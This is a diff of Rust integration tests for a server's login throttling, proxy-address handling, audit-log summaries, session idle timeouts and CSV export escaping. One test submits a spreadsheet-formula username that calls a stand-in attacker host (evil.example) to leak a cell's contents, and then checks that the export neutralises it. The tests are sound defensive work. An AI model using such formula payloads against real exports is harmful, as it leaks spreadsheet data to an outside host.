@@ -43,3 +43,173 @@ async fn log_queries_past_their_bounds_are_400s_and_never_crash_the_server() {
         viewer.get(&format!("/api/v1/logs?q={}", encoded(&format!("{}x{}", "(".repeat(32), ")".repeat(32))))).await;
     assert_eq!(ok.status(), StatusCode::OK, "32 levels are fine");
 }
+
+async fn login_from(app: &TestApp, forwarded_for: Option<&str>, username: &str, password: &str) -> reqwest::Response {
+    let mut request = app
+        .client()
+        .post(app.url("/api/v1/session"))
+        .json(&serde_json::json!({"username": username, "password": password}));
+    if let Some(addr) = forwarded_for {
+        request = request.header("x-forwarded-for", addr);
+    }
+    request.send().await.expect("request")
+}
+
+/// Refusals in the ledger as (reason, summed count, entries).
+async fn refusals(app: &TestApp, reason: &str) -> (u64, usize) {
+    let rows: Vec<(String,)> = sqlx::query_as("select params from audit_log where kind = 'login_failure'")
+        .fetch_all(&app.state.db)
+        .await
+        .unwrap();
+    let mine: Vec<serde_json::Value> = rows
+        .iter()
+        .map(|(p,)| serde_json::from_str::<serde_json::Value>(p).unwrap())
+        .filter(|p| p["refused"] == reason)
+        .collect();
+    (mine.iter().map(|p| p["count"].as_u64().expect("every refusal carries its count")).sum(), mine.len())
+}
+
+/// Parallel wrong passwords are counted before any is hashed: of 50 sent at once from one
+/// address, only the 5 free ones reach the password check, the rest are 429s at once.
+async fn parallel_wrong_logins_are_counted_before_hashing(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let attempts = (0..50).map(|_| login_from(&app, None, "admin", "wrong password"));
+    let statuses: Vec<StatusCode> = futures::future::join_all(attempts).await.iter().map(|r| r.status()).collect();
+    let checked = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
+    let refused = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
+    assert_eq!(checked + refused, 50, "{statuses:?}");
+    assert!(checked <= server::auth::throttle::FREE_PER_PAIR as usize, "{checked} reached the password check");
+    let r = login_from(&app, None, "admin", "wrong password").await;
+    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
+    let retry: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
+    assert!(retry >= 1, "{retry}");
+}
+
+/// Behind a trusted proxy, an attacker failing 50 times for `admin` slows only their own
+/// address: the real admin at another address signs in at once, and the audit trail
+/// records the forwarded addresses. From an untrusted peer the header is ignored.
+async fn an_attacker_cannot_lock_the_admin_out(backend: Backend) {
+    let app = TestApp::spawn_with(Options::new(backend).trusted_proxy("127.0.0.1/32")).await;
+    for _ in 0..50 {
+        let r = login_from(&app, Some("203.0.113.66"), "admin", "guess").await;
+        assert!(matches!(r.status(), StatusCode::UNAUTHORIZED | StatusCode::TOO_MANY_REQUESTS), "{}", r.status());
+    }
+    let attacker = login_from(&app, Some("203.0.113.66"), "admin", ADMIN_PASSWORD).await;
+    assert_eq!(attacker.status(), StatusCode::TOO_MANY_REQUESTS, "the guessing address waits, even with the password");
+
+    let started = std::time::Instant::now();
+    let admin = login_from(&app, Some("203.0.113.66, 198.51.100.7"), "admin", ADMIN_PASSWORD).await;
+    assert_eq!(admin.status(), StatusCode::OK, "the admin elsewhere signs in");
+    assert!(started.elapsed() < std::time::Duration::from_secs(2), "at once: {:?}", started.elapsed());
+    let (addr,): (String,) =
+        sqlx::query_as("select client_addr from audit_log where kind = 'login' order by id desc limit 1")
+            .fetch_one(&app.state.db)
+            .await
+            .unwrap();
+    assert_eq!(addr, "198.51.100.7", "the right-most untrusted hop: what the client wrote to its left does not count");
+
+    // A peer that is not a trusted proxy cannot pick its address with the header.
+    let untrusted = TestApp::spawn_with(Options::new(backend).trusted_proxy("192.0.2.0/24")).await;
+    for i in 0..6 {
+        login_from(&untrusted, Some(&format!("203.0.113.{i}")), "admin", "guess").await;
+    }
+    let r = login_from(&untrusted, Some("203.0.113.99"), "admin", ADMIN_PASSWORD).await;
+    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "the header was ignored: all came from 127.0.0.1");
+}
+
+/// 2,000 throttled attempts add a handful of ledger entries whose counts add up to 2,000.
+async fn refusals_are_folded_into_windows_and_every_attempt_is_counted(backend: Backend) {
+    let limits = server::limits::Limits { refusal_window: std::time::Duration::from_secs(1), ..Default::default() };
+    let app = TestApp::spawn_with(Options::new(backend).limits(limits)).await;
+    let before = app.state.db.clone();
+    let entries_before: (i64,) = sqlx::query_as("select count(*) from audit_log").fetch_one(&before).await.unwrap();
+    let (mut throttled, mut checked) = (0u64, 0u64);
+    for _ in 0..(2_000 / 20) {
+        let batch = (0..20).map(|_| login_from(&app, None, "admin", "wrong password"));
+        for r in futures::future::join_all(batch).await {
+            match r.status() {
+                StatusCode::TOO_MANY_REQUESTS => throttled += 1,
+                StatusCode::UNAUTHORIZED => checked += 1,
+                other => panic!("{other}"),
+            }
+        }
+    }
+    assert_eq!(throttled + checked, 2_000);
+    let (counted, entries) = eventually("every refusal summarized", || async {
+        let (counted, entries) = refusals(&app, "throttled").await;
+        (counted == throttled).then_some((counted, entries))
+    })
+    .await;
+    assert_eq!(counted, throttled);
+    assert!(entries <= 20, "{entries} entries for {throttled} throttled attempts");
+    let (wrong, _) = refusals(&app, "invalid credentials").await;
+    assert_eq!(wrong, checked, "the checked ones are all there too");
+    let entries_after: (i64,) = sqlx::query_as("select count(*) from audit_log").fetch_one(&before).await.unwrap();
+    assert!(entries_after.0 - entries_before.0 <= 40, "the ledger grew by {}", entries_after.0 - entries_before.0);
+    assert!(app.state.ledger.verify().await.unwrap().ok, "summaries are ordinary links of the chain");
+}
+
+/// A session in use is not signed out 30 minutes after sign-in: each request (at most one
+/// store write a minute) restarts the idle clock; the 12 h absolute limit stays.
+async fn an_active_session_outlives_the_idle_timeout(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let viewer = app.signed_in(Role::Viewer).await;
+    let now = server::db::now_ms();
+    // As if signed in 29 minutes ago and idle since: one minute left.
+    let stamps = regex::Regex::new(r#""(login_at_ms|touched_ms)":\d+"#).unwrap();
+    let age = |login_ago_ms: i64, expires_in_ms: i64| {
+        let db = app.state.db.clone();
+        let stamps = stamps.clone();
+        async move {
+            let rows: Vec<(String, String)> =
+                sqlx::query_as("select id, data from sessions").fetch_all(&db).await.unwrap();
+            for (id, data) in rows {
+                // Edited as text: the record's id is an i128, which a JSON value would round.
+                let then = (now - login_ago_ms).to_string();
+                let record = stamps.replace_all(&data, |c: &regex::Captures| format!("\"{}\":{then}", &c[1]));
+                assert!(record.contains(&format!("\"touched_ms\":{then}")), "{record}");
+                sqlx::query("update sessions set data = $1, expiry_date = $2 where id = $3")
+                    .bind(record.to_string())
+                    .bind(now + expires_in_ms)
+                    .bind(id)
+                    .execute(&db)
+                    .await
+                    .unwrap();
+            }
+        }
+    };
+    let expiry = || async {
+        let (ms,): (i64,) =
+            sqlx::query_as("select max(expiry_date) from sessions").fetch_one(&app.state.db).await.unwrap();
+        ms
+    };
+    age(29 * 60_000, 60_000).await;
+
+    assert_eq!(viewer.get("/api/v1/gateways").await.status(), StatusCode::OK);
+
+    let moved = expiry().await - now;
+    assert!(moved > 29 * 60_000, "the idle clock restarted: expires in {moved} ms");
+    // Past the absolute limit, activity does not help.
+    age(12 * 3_600_000 + 1, 60_000).await;
+    assert_eq!(viewer.get("/api/v1/gateways").await.status(), StatusCode::UNAUTHORIZED);
+}
+
+/// A submitted user name that is a spreadsheet formula reaches the CSV export as text.
+async fn a_formula_in_a_failed_sign_in_is_text_in_the_csv_export(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"open")"#;
+    login_from(&app, None, formula, "guess").await;
+    let viewer = app.signed_in(Role::Viewer).await;
+    let csv = viewer.get("/api/v1/audit/export?format=csv&kind=login_failure").await.text().await.unwrap();
+    let line = csv.lines().find(|l| l.contains("HYPERLINK")).expect("the failed sign-in is exported");
+    assert!(line.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""open"")""#), "{line}");
+    assert!(!line.contains(",=HYPERLINK") && !line.contains(",\"=HYPERLINK"), "{line}");
+}
+
+crate::both_databases!(
+    a_formula_in_a_failed_sign_in_is_text_in_the_csv_export,
+    an_active_session_outlives_the_idle_timeout,
+    parallel_wrong_logins_are_counted_before_hashing,
+    an_attacker_cannot_lock_the_admin_out,
+    refusals_are_folded_into_windows_and_every_attempt_is_counted,
+);
